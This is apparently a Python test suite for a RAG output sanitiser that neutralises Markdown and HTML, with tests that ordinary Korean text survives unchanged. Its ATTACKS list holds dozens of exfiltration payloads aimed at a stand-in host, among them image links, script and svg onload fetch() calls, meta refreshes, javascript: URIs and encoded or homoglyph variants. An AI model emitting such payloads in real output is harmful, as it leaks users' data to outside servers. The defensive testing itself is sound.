from __future__ import annotations

import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.text.inert import defused, inert, starts_with_code
from tests.support.shown import foreign

EVIL = "https://evil.example/p?q=secret"
ATTACKS = (
    f"![기록]({EVIL})",
    f"[여기]({EVIL})",
    f'[여기](<{EVIL}> "제목")',
    f"![a][b]\n\n[b]: {EVIL}",
    f"![b]\n\n[b]:\n{EVIL}\n'제목'",
    f"[b]\n\n> [b]: {EVIL}",
    f"- [b]: {EVIL}\n\n[b]",
    f"[^1] 각주\n\n[^1]: {EVIL}",
    f"<{EVIL}>",
    EVIL,
    f"말{EVIL}에서",
    "www.evil.com/p 를 보라",
    "evil.com/p?q=1, EVIL.KR 그리고 //evil.com/x",
    "еvil.com 과 한국은행.com/로그인",
    "xn--e1afmkfd.xn--p1ai/a",
    "mailto:a@evil.com 또는 a@evil.com",
    "xmpp:a@evil.com/b ftp://evil.com",
    f"<img src={EVIL}>",
    f"<IMG\nSRC='{EVIL}'\n/>",
    f"<im<img>g src={EVIL}>",
    f"<svg><image href='{EVIL}'/><a xlink:href='{EVIL}'>x</a></svg>",
    f"<svg onload=\"fetch('{EVIL}')\">",
    f"<iframe src='{EVIL}'></iframe><object data='{EVIL}'></object>",
    f"<p style='background:url({EVIL})'>x</p>",
    "<b onmouseover='alert(1)'>x</b><details open ontoggle=alert(1)>",
    f"<style>@import '{EVIL}';</style><script>fetch('{EVIL}')</script>",
    f"<!-- a --><meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}'>",
    f"<a href='{EVIL}'>여기</a>",
    "[x](javascript:alert(1)) [x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:x) <javascript:alert(1)>",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](//evil.com/a) [x](\\\\evil.com) [x](/api/v1/keys)",
    "&#91;x&#93;&#40;https&#58;//evil.com&#41; &lt;img src=x&gt; &#x3c;img src=x&#x3e;",
    "&amp;lt;img src=x&amp;gt; &#60;img src=https://evil.com/&#62;",
    "[x](&#104;ttps://evil.com) [x](ht\u200btps://evil.com) [x](%68ttps://evil.com)",
    "https&#58;//evil.com www&#46;evil.com a&#64;evil.com",
    f"\\![x]({EVIL}) \\[x]({EVIL}) [x\\]]({EVIL}) \\<img src=x>",
    f"[![a]({EVIL})]({EVIL})",
    f"[a [b]({EVIL}) c]({EVIL})",
    f"[`코드`]({EVIL}) ![`코드`]({EVIL})",
    f"[여러\n줄]({EVIL}) [x](\n{EVIL}\n)",
    f"| a | b |\n| --- | --- |\n| `x | ![x]({EVIL})` | c |",
    f"a | `b | ![x]({EVIL})` | c\n--- | --- | ---",
    f"` ![x]({EVIL})",
    f"\\` ![x]({EVIL}) `",
    f"`` ` ![x]({EVIL}) `",
    f"`a\n\n![x]({EVIL})`",
    f"`a\n# 제목 ![x]({EVIL})`",
    f"```\n코드\n```\n![x]({EVIL})\n```",
    f"    ```\n![x]({EVIL})\n    ```",
    f"- a\n  ```\n![x]({EVIL})\n  ```",
    f"> ```\n![x]({EVIL})\n> ```",
    f"``` a`b\n![x]({EVIL})\n```",
    f"~~~\n```\n~~~\n![x]({EVIL})",
    f"````\n```\n![x]({EVIL})\n````",
    f"\\{EVIL} `a`{EVIL}`b`",
    f"```mermaid\ngraph LR; A[\"<img src='{EVIL}'>\"]\n```",
    f"【1†{EVIL}】 [1]({EVIL}) [출처]: {EVIL}",
    f"[1]:{EVIL}\n[1]",
    f'[a]: <{EVIL}> "b"\n![a]',
    "$$\\href{https://evil.com}{x}$$",
    f"[x]{{{EVIL}}} [[{EVIL}|x]] {{{{{EVIL}}}}}",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_loads_and_nothing_leads_away(attack: str) -> None:
    shown = inert(attack)
    assert foreign(shown) == [], shown
    assert foreign(inert(shown)) == []


def test_they_are_attacks() -> None:
    assert sum(bool(foreign(attack)) for attack in ATTACKS) >= 45


@pytest.mark.parametrize(("first", "second"), list(itertools.product(ATTACKS, ATTACKS[::12])))
def test_no_text_opens_another(first: str, second: str) -> None:
    """Sentences are made inert one by one, and read together."""
    for gap in (" [1] ", "\n", "\n\n"):
        for start, end in ((first, second), (second, first)):
            one, other = inert(start), inert(end)
            gap = "\n" if starts_with_code(other) and "\n" not in gap else gap
            end_of_code = "\n" if one.endswith(("```", "~~~")) else ""
            text = f"{one}{end_of_code}{gap}{other}"
            assert foreign(text) == [], text


PIECES = st.sampled_from(
    [*"[]()<>!`\\|:&;~\n \"'#-", "](", "]:", "![", "```", "~~~", "    ", "- ", "> ", "| --- |", "https://e.io/x", "www.e.io",
     "e.io", "a@e.io", "<img src=x>", "</a>", "<a href=", "&lt;", "&#96;", "javascript:", "\u200b", "가", "a", "[1]", "\\`"]
)  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(st.lists(PIECES, max_size=14).map("".join), st.lists(PIECES, max_size=8).map("".join))
def test_any_text_is_inert(first: str, second: str) -> None:
    one, other = inert(first), inert(second)
    assert foreign(one) == [], one
    gap = "\n" if starts_with_code(other) or one.endswith(("```", "~~~")) else " "
    assert foreign(f"{one}{gap}{other}") == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("연차휴가는 15일이다. 3 < 5, a<=b, AT&T", "연차휴가는 15일이다. 3 < 5, a<=b, AT&T"),
        ("**굵게** `cat a | grep b` 그리고 `a.b()`", "**굵게** `cat a | grep b` 그리고 `a.b()`"),
        ("| 구분 | 값 |\n| --- | --- |\n| 가 | 1 |", "| 구분 | 값 |\n| --- | --- |\n| 가 | 1 |"),
        ("```python\nif a < b: print('<img>')\n```", "```python\nif a < b: print('<img>')\n```"),
        ("- [ ] 할 일\n1. [제3조] 가", "- [ ] 할 일\n1. [제3조] 가"),
        ("[여기](https://evil.com)를 누르세요", "여기를 누르세요"),
        ("끝 ![상태](https://evil.com/a.png)", "끝 상태"),
        (
            "문의: hr@company.co.kr, https://intra.company.kr/a?b=1.",
            "문의: `hr@company.co.kr`, `https://intra.company.kr/a?b=1`.",
        ),
        ("[주의]: 오늘까지", "[주의] : 오늘까지"),
        ("비용은 1.5배, 제2.1절, v3.2, e.g. 10:30", "비용은 1.5배, 제2.1절, v3.2, e.g. 10:30"),
        ("List<String> 가<b>나</b>", "List&lt;String> 가&lt;b>나&lt;/b>"),
        ("닫히지 않은 ` 하나", "닫히지 않은 ' 하나"),
    ],
)
def test_words_stay(text: str, shown: str) -> None:
    assert inert(text) == shown


def test_what_goes_is_counted() -> None:
    found = defused("![a](https://e.io) [b](https://e.io) <img src=x> [c]: https://e.io")
    assert (found.images, found.links, found.tags) == (1, 1, 1)
    assert found.removed == "images: 1, links: 1, tags: 1"
    assert defused("[c]: https://e.io\n말").links == 1
    assert defused("그냥 글").removed == ""


def test_time_is_linear() -> None:
    for piece in ("[", "](", "![a](", "<a ", "`", "a.", "가나다", "a@", "http://", "&#", "[a]: ", "\\", "<!--"):
        inert(piece * 4000)
